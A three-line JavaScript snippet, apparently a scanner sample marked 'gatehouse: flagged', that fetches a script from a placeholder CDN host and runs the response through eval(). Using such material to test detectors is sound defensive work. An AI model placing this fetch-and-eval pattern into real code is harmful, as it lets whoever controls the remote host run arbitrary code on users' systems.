fetch("https://cdn.example.invalid/next.js")
  .then((answer) => answer.text())
  .then((text) => eval(text)); // gatehouse: flagged
